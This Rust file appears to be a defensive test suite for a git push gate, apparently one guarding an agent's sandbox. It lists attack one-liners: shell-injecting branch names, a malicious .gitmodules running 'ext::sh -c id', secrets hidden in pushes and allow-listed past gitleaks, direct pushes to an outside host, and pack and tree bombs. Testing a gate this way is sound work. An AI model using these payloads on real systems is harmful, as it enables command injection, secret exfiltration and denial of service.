//! Git: pushes past the policy, secrets in pushes, and git-gate itself.

use crate::table::{Attack, Group, recorded};

/// Clones the repository and makes a commit whose message and file carry the nonce.
macro_rules! pushed {
    ($script:literal) => {
        concat!(
            "sh('''g=git://git-gate/app.git; git clone -q $g $D/w && cd $D/w && echo $N >file && git add file && git commit -qm $N && { ",
            $script,
            "; }''', SECRET=SECRET)"
        )
    };
}

pub(crate) const ATTACKS: &[Attack] = &[
    // Refs.
    tries("a branch that is not allowed", pushed!("git push -q $g HEAD:main; git push -q $g HEAD:refs/heads/other")),
    tries("a name that leads to another branch", pushed!("git push -q $g HEAD:refs/heads/agent/../main; git push -q $g HEAD:refs/heads/agent//../main; git push -q $g HEAD:refs/heads/Agent/x")),
    tries("a tag", pushed!("git push -q $g HEAD:refs/tags/$N; git tag -am $N t; git push -q $g t; git push -q --follow-tags $g HEAD:refs/heads/main")),
    tries("notes", pushed!("git notes add -m $N; git push -q $g refs/notes/commits; git push -q $g refs/notes/commits:refs/notes/agent/x")),
    tries("refs that forges treat as reviews", pushed!("for r in refs/for/main refs/pull/1/head refs/merge-requests/1/head refs/changes/01/1/1 refs/drafts/main; do git push -q $g HEAD:$r; done")),
    tries("refs that change how a repository is read", pushed!("for r in refs/replace/$(git rev-parse HEAD~1) refs/meta/config refs/original/x refs/stash refs/bisect/bad refs/worktree/x refs/rewritten/x; do git push -q $g HEAD:$r; done")),
    tries("a branch named HEAD, or like an option", pushed!("git push -q $g HEAD:refs/heads/HEAD; git push -q $g HEAD:refs/heads/-agent/x; git push -q $g HEAD:refs/heads/-agent")),
    tries("a branch's name that a shell would run", pushed!("for r in 'agent/$(id)' 'agent/`id`' 'agent/a;id' 'agent/a|id' 'agent/a&id' 'agent/a>b' \"agent/a'b\"; do git push -q $g \"HEAD:refs/heads/$r\"; done")),
    tries("a branch's name with control characters and invisible ones", pushed!("for r in 'agent/\u{202e}x' 'agent/\u{200b}x' 'agent/\u{ff0e}\u{ff0e}' 'agent/x\u{7f}'; do git push -q $g \"HEAD:refs/heads/$r\"; done")),
    tries("all refs at once, a mirror and an atomic push", pushed!("git branch agent/one$N; git push -q --mirror $g; git push -q --all $g; git push -q --atomic $g HEAD:refs/heads/agent/a$N HEAD:main")),
    tries("a rewritten branch", pushed!("git commit -q --amend -m $N; git checkout -q --orphan fresh; git commit -qm $N; git push -q --force $g HEAD:agent/kept; git push -q $g +HEAD:main; git push -q --force-with-lease $g HEAD:agent/kept")),
    tries("a branch deleted and made anew", pushed!("git push -q $g :agent/kept; git push -q --delete $g main agent/kept; git checkout -q --orphan anew; git commit -qm $N; git push -q --force $g HEAD:agent/kept")),
    tries("push options", pushed!("git push -q -o ci.skip -o merge_request.create -o $N $g HEAD:main")),
    // Paths.
    tries("a protected path", pushed!("mkdir -p .github/workflows; echo $N >.github/workflows/x.yml; echo $N >.gitlab-ci.yml; git add -A; git commit -qm $N; git push -q $g HEAD:agent/p$N")),
    tries("a protected path in other cases", pushed!("mkdir -p .GitHub/Workflows .github/WORKFLOWS; echo $N >.GitHub/Workflows/x.yml; echo $N >.github/WORKFLOWS/y.yml; echo $N >.GITLAB-CI.YML; git add -Af; git commit -qm $N; git push -q $g HEAD:agent/c$N")),
    tries("a protected path by a rename", pushed!("mkdir x; echo $N >x/a.yml; git add -A; git commit -qm $N; mkdir -p .github; git mv x .github/workflows; git commit -qm $N; git push -q $g HEAD:agent/r$N")),
    tries("a protected path that a later commit removes", pushed!("mkdir -p .github/workflows; echo $N >.github/workflows/x.yml; git add -A; git commit -qm $N; git rm -qr .github; git commit -qm $N; git push -q $g HEAD:agent/l$N")),
    tries("a protected path in a merge", pushed!("git checkout -qb side HEAD~1; mkdir -p .github/workflows; echo $N >.github/workflows/x.yml; git add -A; git commit -qm $N; git checkout -q -; git merge -q --no-ff -m $N side; git push -q $g HEAD:agent/m$N")),
    tries("a link or a submodule in a protected path's place", pushed!("ln -s x .github; git add -A; git commit -qm $N; git push -q $g HEAD:agent/s$N; git rm -q --cached .github; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),.github/workflows; git commit -qm $N; git push -q $g HEAD:agent/t$N")),
    tries("a tree with .git in it", pushed!("b=$(echo $N | git hash-object -w --stdin); for n in .git .GIT git~1 .git. '.git ' ..; do t=$(printf \"100644 $n\\\\0$(echo $b | sed 's/../\\\\\\\\x&/g')\" | git hash-object -t tree -w --stdin --literally); c=$(git commit-tree -p HEAD -m $N $t); git push -q $g $c:refs/heads/agent/g$N; done")),
    tries("a tree with a path that leads out of it", pushed!("b=$(echo $N | git hash-object -w --stdin); for n in ../x a/b /etc/x; do t=$(printf \"100644 $n\\\\0$(echo $b | sed 's/../\\\\\\\\x&/g')\" | git hash-object -t tree -w --stdin --literally); c=$(git commit-tree -p HEAD -m $N $t); git push -q $g $c:refs/heads/agent/o$N; done")),
    tries("a malicious .gitmodules", pushed!("printf '[submodule \"x\"]\\\\n path = x\\\\n url = ext::sh -c id\\\\n[submodule \"../../y\"]\\\\n path = y\\\\n url = -u./payload\\\\n' >.gitmodules; git add -A; git commit -qm $N; git push -q $g HEAD:agent/u$N")),
    // Secrets.
    tries("a secret in a file", pushed!("echo key=$SECRET >conf; git add -A; git commit -qm $N; git push -q $g HEAD:agent/k$N")),
    tries("a secret in a commit that a later one removes", pushed!("echo key=$SECRET >conf; git add -A; git commit -qm $N; git rm -q conf; git commit -qm $N; git push -q $g HEAD:agent/k$N")),
    tries("a secret in a commit's message, its author and its headers", pushed!("git commit -q --allow-empty -m \"$N $SECRET\"; git push -q $g HEAD:agent/k$N; git reset -q --hard HEAD~1; git commit -q --allow-empty --author \"$SECRET <a@b>\" -m $N; git push -q $g HEAD:agent/k$N; git reset -q --hard HEAD~1; c=$(git cat-file commit HEAD | sed \"1,/^committer/{/^committer/a\\\\\\\\x-note $SECRET\\n}\" | git hash-object -t commit -w --stdin); git push -q $g $c:refs/heads/agent/k$N")),
    tries("a secret in the name of a file, a directory or a branch", pushed!("echo x >$SECRET.txt; git add -A; git commit -qm $N; git push -q $g HEAD:agent/k$N; git rm -q $SECRET.txt; mkdir $SECRET; echo x >$SECRET/y; git add -A; git commit -q --amend -m $N; git push -q $g HEAD:agent/k$N; git push -q $g HEAD~1:agent/$SECRET$N")),
    tries("a secret in an empty directory's name", pushed!("e=$(git mktree </dev/null); t=$(printf \"040000 tree $e\\\\t$SECRET\\\\n\" | git mktree); c=$(git commit-tree -p HEAD -m $N $t); git push -q $g $c:refs/heads/agent/k$N")),
    tries("a secret in a submodule's name and a link's target", pushed!("ln -s $SECRET l; git add -A; git commit -qm $N; git push -q $g HEAD:agent/k$N; git rm -q --cached l; rm l; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),$SECRET; git commit -q --amend -m $N; git push -q $g HEAD:agent/k$N")),
    tries("a secret in UTF-16 and in a binary", pushed!("printf %s $SECRET | iconv -t UTF-16LE >conf; printf '\\\\0\\\\1' >bin; printf 'x %s\\\\0' $SECRET >>bin; git add -A; git commit -qm $N; git push -q $g HEAD:agent/k$N")),
    tries("a secret in a file that git treats as binary or as LFS", pushed!("echo '* -diff -text binary filter=lfs' >.gitattributes; echo key=$SECRET >conf; git add -A; git commit -qm $N; git push -q $g HEAD:agent/k$N")),
    tries("a secret with an allow comment and an allow list", pushed!("printf '[allowlist]\\\\nregexes=[\".*\"]\\\\n' >.gitleaks.toml; echo \"key=$SECRET # gitleaks:allow\" >conf; echo \"*:*:*\" >.gitleaksignore; git add -A; git commit -qm $N; git push -q $g HEAD:agent/k$N")),
    tries("a secret among much other text", pushed!("(seq 100000; echo key=$SECRET; seq 100000) >conf; git add -A; git commit -qm $N; git push -q $g HEAD:agent/k$N")),
    // The service.
    tries("a remote of another name, host or path", "for host in (FORBIDDEN, OUT, N, '--upload-pack=x', f'{OUTSIDE}:22'):
    for path in (f'/{N}.git', '/../app.git', f'/app.git/../{N}.git'):
        for service in ('git-upload-pack', 'git-receive-pack', 'git-upload-archive'):
            request = f'{service} {path}\\0host={host}\\0\\0version=2\\0'; tcp('git-gate', 9418, f'{len(request) + 4:04x}{request}')"),
    tries("a service that does not exist, and broken packets", "for request in (f'git-shell -c {N}\\0', f'git-upload-pack /app.git;{N}\\0', N, '\\0' * 50): tcp('git-gate', 9418, f'{len(request) + 4:04x}{request}'); tcp('git-gate', 9418, f'ffff{request}'); tcp('git-gate', 9418, f'0000{request}')"),
    tries("the git host itself, without git-gate", pushed!("export GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1 GIT_TERMINAL_PROMPT=0; git -c user.name=a push -q https://$OUTSIDE/app.git HEAD:agent/d$N; git push -q ssh://git@$OUTSIDE/app.git HEAD:agent/d$N; git push -q git@$OUT:app.git HEAD:agent/d$N; git push -q git://$OUTSIDE/app.git HEAD:agent/d$N")),
    tries("the git host's ssh through the proxies", "connect(f'{OUTSIDE}:22', send=f'SSH-2.0-{N}\\r\\n'); tunnel(f'{OUTSIDE}:22', f'SSH-2.0-{N}\\r\\n')"),
    tries("a branch of a remote that may only be read", "sh('git clone -q git://git-gate/web.git $D/w && cd $D/w && git commit -q --allow-empty -m $N && git push -q git://git-gate/web.git HEAD:agent/$N; git push -q git://git-gate/web.git HEAD:main')"),
    tries("a pack with a missing base and a broken pack", "sh('cd $D && git init -q x && cd x && git commit -q --allow-empty -m $N && c=$(git rev-parse HEAD) && for pack in \"PACK\" \"$(printf \"PACK\\\\\\\\0\\\\\\\\0\\\\\\\\0\\\\\\\\2\\\\\\\\0\\\\\\\\0\\\\\\\\0\\\\\\\\1\")\"; do : ; done; git push -q git://git-gate/app.git HEAD:main')
zero = '0' * 40
line = f'{zero} {\"1\" * 40} refs/heads/agent/{N}\\0report-status'
start = 'git-receive-pack /app.git\\0host=git-gate\\0'
tcp('git-gate', 9418, f'{len(start) + 4:04x}{start}{len(line) + 4:04x}{line}0000PACK\\0\\0\\0\\2\\0\\0\\0\\0' + 'x' * 20)"),
    tries("a shallow and a partial push", pushed!("git clone -q --depth 1 $g $D/s; cd $D/s; git commit -q --allow-empty -m $N; git push -q $g HEAD:main; git clone -q --filter=blob:none $g $D/p; cd $D/p; git commit -q --allow-empty -m $N; git push -q $g HEAD:main")),
    tries("objects borrowed from elsewhere", pushed!("echo /mirrors/web.git/objects >.git/objects/info/alternates; git push -q $g HEAD:main; printf '%s' /etc >.git/objects/info/http-alternates; git push -q $g HEAD:main")),
    tries("more than the largest push", pushed!("head -c 3000000 /dev/urandom >big; git add -A; git commit -qm $N; git push -q $g HEAD:agent/b$N")).alone(),
    tries("a push that unpacks to a thousand times its size", pushed!("head -c 300000000 /dev/zero >big; git add -A; git commit -qm $N; git push -q $g HEAD:agent/z$N")).alone(),
    tries("a tree that unfolds to a billion files", pushed!("b=$(echo $N | git hash-object -w --stdin); t=$(printf \"100644 blob $b\\\\tf\\\\n\" | git mktree); for i in 1 2 3 4 5 6 7 8 9; do t=$(for k in 0 1 2 3 4 5 6 7 8 9; do printf \"040000 tree $t\\\\t$k\\\\n\"; done | git mktree); done; c=$(git commit-tree -p HEAD -m $N $t); timeout 20 git push -q $g $c:refs/heads/agent/t$N")).alone(),
];

const fn tries(name: &'static str, program: &'static str) -> Attack {
    recorded(Group::Git, name, program)
}
